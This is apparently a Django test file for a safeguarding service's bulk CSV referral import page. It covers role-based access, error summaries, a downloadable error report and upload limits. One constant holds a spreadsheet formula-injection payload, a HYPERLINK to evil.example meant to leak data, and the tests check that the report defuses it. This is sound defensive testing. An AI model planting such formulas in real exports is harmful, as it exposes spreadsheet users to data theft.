"""The bulk intake page: who may use it, the error summary, the error report download, success."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from safehub.referrals.models import Referral
from safehub.referrals.tests.test_intake_import import counts
from safehub.referrals.tests.test_intake_parse import csv_bytes, row

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak","Click me")'


def upload(data: bytes, name: str = "referrals.csv", content_type: str = "text/csv") -> dict:
    return {"file": SimpleUploadedFile(name, data, content_type=content_type)}


@pytest.mark.parametrize(
    ("persona", "status", "post_status"),
    [
        ("partner", 200, 200),
        ("owner", 200, 200),
        ("outsider", 200, 400),  # a Bradford agency cannot refer to the Leeds MASH
        ("mash", 200, 200),
        ("analyst", 403, 403),
        ("commissioner", 403, 403),
        ("auditor", 403, 403),
    ],
)
def test_who_may_use_the_page(request, client, persona, status, post_status):
    client.force_login(request.getfixturevalue(persona))
    assert client.get(reverse("referrals:import")).status_code == status
    assert client.get(reverse("referrals:import_errors")).status_code == status
    assert client.get(reverse("referrals:import_template")).status_code == status
    post = client.post(reverse("referrals:import"), upload(csv_bytes([row()])))
    assert post.status_code == post_status
    if persona == "outsider":
        assert (
            "Row 2, district: Unknown district &#x27;leeds&#x27;. Use one of: bradford"
            in post.content.decode()
        )


def test_signed_out_users_are_sent_to_sign_in(client):
    response = client.get(reverse("referrals:import"))
    assert response.status_code == 302
    assert "sign-in" in response["Location"]


def test_the_page_documents_every_column(client, partner):
    client.force_login(partner)
    page = client.get(reverse("referrals:import")).content.decode()
    for name in ("received_at", "categories", "subject_nhs_number", "child_seen", "lawful_basis"):
        assert f"<code>{name}</code>" in page
    assert 'enctype="multipart/form-data"' in page


def test_errors_show_a_summary_and_the_report_downloads_formula_safe(client, partner):
    client.force_login(partner)
    rows = [row() for _ in range(25)]
    rows[1]["source"] = HOSTILE
    for n in range(5, 25):
        rows[n]["categories"] = "wizardry"
    before = counts()
    response = client.post(reverse("referrals:import"), upload(csv_bytes(rows)))
    page = response.content.decode()
    assert response.status_code == 400
    assert "govuk-error-summary" in page
    assert "nothing was saved" in page
    assert "21 problems found" in page
    assert "Row 3, source: Unknown source" in page
    assert page.count("Unknown category &#x27;wizardry&#x27;") == 19  # the first 20 problems only
    assert "Download the error report (CSV)" in page
    assert counts() == before

    report = client.get(reverse("referrals:import_errors"))
    assert report.status_code == 200
    assert report["Content-Type"].startswith("text/csv")
    assert report["Content-Disposition"] == 'attachment; filename="referral-import-errors.csv"'
    lines = list(csv.reader(io.StringIO(report.content.decode())))
    assert lines[0] == ["row", "column", "value", "problem"]
    assert len(lines) == 22
    assert lines[1][:3] == ["3", "source", "'" + HOSTILE]
    assert all(not cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line)


def test_the_error_report_url_carries_no_personal_data(client, partner):
    client.force_login(partner)
    response = client.post(reverse("referrals:import"), upload(csv_bytes([row(subject_nhs_number="123")])))
    assert reverse("referrals:import_errors") in response.content.decode()
    report = client.get(reverse("referrals:import_errors")).content.decode()
    assert "subject_nhs_number,(not shown)" in report


def test_another_user_does_not_get_my_error_report(client, partner, owner):
    client.force_login(partner)
    client.post(reverse("referrals:import"), upload(csv_bytes([row(source="nonsense")])))
    client.force_login(owner)
    lines = client.get(reverse("referrals:import_errors")).content.decode().splitlines()
    assert lines == ["row,column,value,problem"]


def test_a_good_file_imports_and_links_each_referral(client, partner):
    client.force_login(partner)
    data = csv_bytes([row(subject_given_name=f"Kid{n}", subject_nhs_number="") for n in range(3)])
    response = client.post(reverse("referrals:import"), upload(data))
    page = response.content.decode()
    assert response.status_code == 200
    assert "3 referrals imported" in page
    assert Referral.objects.count() == 3
    for referral in Referral.objects.all():
        assert reverse("referrals:detail", args=[referral.pk]) in page


def test_a_file_that_is_not_csv_is_refused_clearly(client, partner):
    client.force_login(partner)
    response = client.post(
        reverse("referrals:import"),
        upload(b"PK\x03\x04", name="referrals.xlsx", content_type="application/vnd.ms-excel"),
    )
    assert response.status_code == 400
    assert "The selected file must be a CSV" in response.content.decode()
    assert not Referral.objects.exists()


def test_no_file_is_a_clear_error(client, partner):
    client.force_login(partner)
    response = client.post(reverse("referrals:import"), {})
    assert "Select a CSV file" in response.content.decode()


def test_a_file_over_the_upload_limit_is_refused_with_the_limit(client, partner, settings):
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 2048
    client.force_login(partner)
    response = client.post(reverse("referrals:import"), upload(csv_bytes([row()] * 20)))
    assert response.status_code == 400
    assert "must be smaller than 2 KB" in response.content.decode()
    assert not Referral.objects.exists()


def test_a_request_over_the_request_limit_gets_the_too_large_page(client, partner, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1024
    client.force_login(partner)
    response = client.post(reverse("referrals:import"), upload(csv_bytes([row()] * 20)))
    assert response.status_code == 413
    assert not Referral.objects.exists()
